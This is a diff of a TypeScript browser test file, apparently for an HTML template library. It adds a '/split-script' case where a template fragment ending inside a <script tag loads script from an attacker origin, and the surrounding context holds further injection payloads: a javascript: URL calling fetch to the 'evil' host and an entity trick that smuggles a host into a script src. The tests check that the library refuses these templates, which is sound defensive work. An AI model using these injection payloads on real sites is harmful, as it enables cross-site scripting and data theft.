@@ -35,6 +35,8 @@ const PAGES: Record<string, (evil: string) => SafeHtml> = {
   // A javascript: URL in the template's text: the browser decodes the value's &#39; back before running it.
   '/javascript-url': (evil) => html`<a id="js" href="javascript:void('${`');fetch('${evil}/ran');//`}')">a</a>`,
   // The author's own script, as the template writes it, and as a trustedUrl: loaded from the app.
+  // A fragment that ends inside a tag, put where text goes: the outer template read src="${…}" as text.
+  '/split-script': (evil) => html`${html`<script `}src="${`${evil}/x.js`}"></script>`,
   // &SOL; is not a reference (names are case-sensitive): Chromium keeps it in the host, cdn.example.com&sol;.evil.test.
   '/entity-case': (evil) => html`<script src="http://cdn.example.com&SOL;${`.evil.test:${new URL(evil).port}/x.js`}"></script>`,
   '/own': () => html`<script src="/static/${'app.js'}"></script><script src="${trustedUrl('/app.js')}"></script>`,
@@ -92,7 +94,7 @@ describe.runIf(browserTestsEnabled('resource URLs in Chromium'))('resource URLs 
 
   it.each([
     '/script', '/base', '/iframe', '/stylesheet', '/cdn-host', '/refresh',
-    '/fragment-script', '/fragment-base', '/fragment-iframe', '/fragment-stylesheet', '/fragment-refresh', '/name-refresh', '/name-http-equiv', '/javascript-url',
+    '/fragment-script', '/fragment-base', '/fragment-iframe', '/fragment-stylesheet', '/fragment-refresh', '/name-refresh', '/name-http-equiv', '/javascript-url', '/split-script',
   ])('%s: the template is refused; the other origin gets no request', async (path) => {
     // goto waits for the load event: after the scripts, the frame and the stylesheet.
     await page.goto(`${app.origin}${path}`);
